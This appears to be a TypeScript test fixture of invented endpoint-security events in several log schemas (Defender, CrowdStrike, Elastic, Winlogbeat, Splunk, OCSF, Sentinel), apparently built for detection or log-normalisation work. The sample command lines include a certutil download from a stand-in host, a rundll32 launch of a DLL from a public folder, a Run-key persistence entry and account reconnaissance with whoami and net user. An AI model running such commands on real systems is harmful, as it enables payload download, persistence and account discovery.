/**
 * Invented events of schemas with their own field names, one per kind. The field names come from the schemas'
 * documentation.
 */

/** A row of Defender's DeviceProcessEvents. */
export const DEFENDER_PROCESS = {
  Timestamp: '2026-05-11T07:42:10.1234567Z',
  DeviceId: '5f1c0de9a2b34c7788aa00bb11cc22dd33ee44ff',
  DeviceName: 'ws-14.corp.example',
  ActionType: 'ProcessCreated',
  FileName: 'rundll32.exe',
  FolderPath: 'C:\\Windows\\System32\\rundll32.exe',
  SHA1: 'a1b2c3d4e5f60718293a4b5c6d7e8f9001122334',
  SHA256: '5b0d4c5f6a7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c8b9a0f1e2d3c',
  MD5: '0f1e2d3c4b5a69788796a5b4c3d2e1f0',
  FileSize: 71680,
  ProcessVersionInfoCompanyName: 'Example Corporation',
  ProcessVersionInfoProductName: 'Example Operating System',
  ProcessVersionInfoProductVersion: '10.0.1.2',
  ProcessVersionInfoInternalFileName: 'rundll',
  ProcessVersionInfoOriginalFileName: 'RUNDLL32.EXE',
  ProcessVersionInfoFileDescription: 'Host process',
  ProcessId: 7312,
  ProcessCommandLine: 'rundll32.exe C:\\Users\\Public\\tool.dll,Start',
  ProcessIntegrityLevel: 'High',
  AccountDomain: 'corp',
  AccountName: 'mira',
  LogonId: 999,
  InitiatingProcessAccountDomain: 'corp',
  InitiatingProcessAccountName: 'jon',
  InitiatingProcessFileName: 'cmd.exe',
  InitiatingProcessFolderPath: 'c:\\windows\\system32\\cmd.exe',
  InitiatingProcessCommandLine: '"cmd.exe" /c run.bat',
  InitiatingProcessId: 4120,
  InitiatingProcessIntegrityLevel: 'Medium',
};

/** The row for a registry value that was set. */
export const DEFENDER_REGISTRY = {
  Timestamp: '2026-05-11T07:43:00.5Z',
  DeviceName: 'ws-14.corp.example',
  ActionType: 'RegistryValueSet',
  RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Example\\Run',
  RegistryValueName: 'Updater',
  RegistryValueData: 'C:\\Users\\Public\\tool.exe',
  InitiatingProcessFolderPath: 'c:\\windows\\system32\\reg.exe',
  InitiatingProcessId: 4121,
};

/** A process start seen by CrowdStrike's sensor. */
export const CROWDSTRIKE_PROCESS = {
  event_simpleName: 'ProcessRollup2',
  event_platform: 'Win',
  aid: '00112233445566778899aabbccddeeff',
  cid: 'ffeeddccbbaa99887766554433221100',
  timestamp: '1778485330123',
  name: 'ProcessRollup2V19',
  ImageFileName: '\\Device\\HarddiskVolume3\\Windows\\System32\\whoami.exe',
  CommandLine: 'whoami /all',
  ParentBaseFileName: 'cmd.exe',
  RawProcessId: '892',
  TargetProcessId: '289741187433',
  ParentProcessId: '289734651298',
  AuthenticationId: '999',
  IntegrityLevel: '12288',
  MD5HashData: '0f1e2d3c4b5a69788796a5b4c3d2e1f0',
  SHA256HashData: '5b0d4c5f6a7e8d9c0b1a2f3e4d5c6b7a8f9e0d1c2b3a4f5e6d7c8b9a0f1e2d3c',
  UserName: 'mira',
  UserSid: 'S-1-5-21-1-2-3-1104',
};

/** A process start seen by Elastic's agent, as stored in Elasticsearch. */
export const ECS_PROCESS = {
  '@timestamp': '2026-05-11T07:42:10.123Z',
  ecs: { version: '8.11.0' },
  event: { category: ['process'], type: ['start'], action: 'start', module: 'endpoint', kind: 'event' },
  host: { name: 'ws-14', os: { type: 'windows', name: 'Windows', family: 'windows' } },
  user: { name: 'mira', domain: 'CORP', id: 'S-1-5-21-1-2-3-1104' },
  process: {
    pid: 7312,
    entity_id: 'ZW5kcG9pbnQtMQ==',
    name: 'certutil.exe',
    executable: 'C:\\Windows\\System32\\certutil.exe',
    command_line: 'certutil.exe -urlcache -f http://files.example/a a.bin',
    args: ['certutil.exe', '-urlcache', '-f', 'http://files.example/a', 'a.bin'],
    working_directory: 'C:\\Users\\mira\\',
    hash: { md5: '0f1e2d3c4b5a69788796a5b4c3d2e1f0', sha256: 'ab'.repeat(32) },
    pe: { original_file_name: 'CertUtil.exe', company: 'Example Corporation', imphash: 'cd'.repeat(16) },
    parent: {
      pid: 4120,
      name: 'cmd.exe',
      executable: 'C:\\Windows\\System32\\cmd.exe',
      command_line: 'cmd.exe /c start.bat',
    },
  },
};

/** A registry value set, seen by Elastic's agent. */
export const ECS_REGISTRY = {
  event: { category: ['registry'], type: ['change'], action: 'modification' },
  host: { os: { family: 'windows' } },
  process: { executable: 'C:\\Windows\\regedit.exe', pid: 90 },
  registry: {
    hive: 'HKLM',
    path: 'HKLM\\SOFTWARE\\Example\\Run\\Updater',
    data: { strings: ['C:\\Users\\Public\\tool.exe'], type: 'REG_SZ' },
  },
};

/** Sysmon's event 1 after Winlogbeat's module for it: most fields have moved. */
export const WINLOGBEAT_SYSMON = {
  '@timestamp': '2026-05-11T07:42:10.123Z',
  event: { code: '1', category: ['process'], type: ['start'], provider: 'Microsoft-Windows-Sysmon' },
  winlog: {
    channel: 'Microsoft-Windows-Sysmon/Operational',
    event_id: '1',
    provider_name: 'Microsoft-Windows-Sysmon',
    event_data: { IntegrityLevel: 'High', TerminalSessionId: '1' },
  },
  user: { name: 'mira', domain: 'CORP' },
  process: {
    pid: 7312,
    executable: 'C:\\Windows\\System32\\whoami.exe',
    command_line: 'whoami /groups',
    hash: { sha1: 'a1b2c3d4e5f60718293a4b5c6d7e8f9001122334' },
    parent: { executable: 'C:\\Windows\\explorer.exe', pid: 4120 },
  },
};

/** Windows' event 4688 as Elastic Agent ships it: its own fields beside the moved ones. */
export const WINLOGBEAT_4688 = {
  event: { code: '4688', category: ['process'], type: ['start'] },
  winlog: {
    channel: 'Security',
    event_id: '4688',
    event_data: {
      NewProcessName: 'C:\\Windows\\System32\\net.exe',
      ProcessId: '0x10',
      NewProcessId: '0x37c',
    },
  },
  process: {
    command_line: 'net user',
    pid: 892,
    parent: { executable: 'C:\\Windows\\System32\\cmd.exe' },
  },
};

/** A script block as Elastic Agent ships it. */
export const WINLOGBEAT_4104 = {
  winlog: {
    channel: 'Microsoft-Windows-PowerShell/Operational',
    event_id: '4104',
    event_data: { MessageNumber: '1', MessageTotal: '1' },
  },
  powershell: { file: { script_block_text: 'Get-ChildItem C:\\Users' } },
};

/** The start of a PowerShell engine, as Winlogbeat ships it. */
export const WINLOGBEAT_400 = {
  winlog: {
    channel: 'Windows PowerShell',
    event_id: '400',
    event_data: {
      param1: 'Available',
      param2: 'None',
      param3: 'HostName=ConsoleHost HostApplication=cmd.exe',
    },
  },
};

/** Event 4688 with fields that Splunk's add-on for Windows extracted from the event's text. */
export const SPLUNK_4688 = {
  _time: '2026-05-11T07:42:10.000+00:00',
  sourcetype: 'WinEventLog',
  LogName: 'Security',
  EventCode: '4688',
  ComputerName: 'ws-14.corp.example',
  Account_Name: ['mira', '-'],
  Account_Domain: ['CORP', '-'],
  Logon_ID: '0x3e7',
  New_Process_ID: '0x37c',
  New_Process_Name: 'C:\\Windows\\System32\\net.exe',
  Creator_Process_ID: '0x10',
  Creator_Process_Name: 'C:\\Windows\\System32\\cmd.exe',
  Process_Command_Line: 'net user /domain',
  Mandatory_Label: 'Mandatory Label\\High Mandatory Level',
};

/** A process under Splunk's common names. */
export const SPLUNK_PROCESS = {
  _time: '2026-05-11T07:42:10.000+00:00',
  dest: 'ws-14.corp.example',
  user: 'CORP\\mira',
  process_name: 'net.exe',
  process_path: 'C:\\Windows\\System32\\net.exe',
  process: 'net user /domain',
  process_id: '892',
  original_file_name: 'net.exe',
  parent_process_name: 'cmd.exe',
  parent_process_path: 'C:\\Windows\\System32\\cmd.exe',
  parent_process: 'cmd.exe /c net user /domain',
  process_hash: 'MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0',
};

/** A process launch, in OCSF. */
export const OCSF_PROCESS = {
  class_uid: 1007,
  class_name: 'Process Activity',
  category_uid: 1,
  activity_id: 1,
  type_uid: 100701,
  time: 1778485330123,
  metadata: { version: '1.3.0', product: { name: 'Sensor', vendor_name: 'Example' } },
  device: { hostname: 'ws-14.corp.example', os: { name: 'Windows 11', type: 'Windows', type_id: 100 } },
  process: {
    pid: 7312,
    name: 'certutil.exe',
    cmd_line: 'certutil.exe -decode a b',
    file: {
      name: 'certutil.exe',
      path: 'C:\\Windows\\System32\\certutil.exe',
      hashes: [
        { algorithm: 'MD5', algorithm_id: 1, value: '0f1e2d3c4b5a69788796a5b4c3d2e1f0' },
        { algorithm: 'SHA-256', algorithm_id: 3, value: 'ab'.repeat(32) },
      ],
    },
    user: { name: 'mira', domain: 'CORP' },
  },
  actor: {
    process: { pid: 4120, cmd_line: 'cmd.exe /c run', file: { path: 'C:\\Windows\\System32\\cmd.exe' } },
    user: { name: 'mira', domain: 'CORP' },
  },
};

/** Event 4688 in Sentinel's table SecurityEvent. */
export const SENTINEL_4688 = {
  TimeGenerated: '2026-05-11T07:42:10Z',
  Type: 'SecurityEvent',
  EventSourceName: 'Microsoft-Windows-Security-Auditing',
  Channel: 'Security',
  EventID: 4688,
  Activity: '4688 - A new process has been created.',
  Computer: 'ws-14.corp.example',
  Account: 'CORP\\mira',
  SubjectDomainName: 'CORP',
  SubjectUserName: 'mira',
  SubjectLogonId: '0x3e7',
  NewProcessId: '0x37c',
  NewProcessName: 'C:\\Windows\\System32\\net.exe',
  Process: 'net.exe',
  CommandLine: 'net user',
  ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
  ProcessId: '0x10',
};
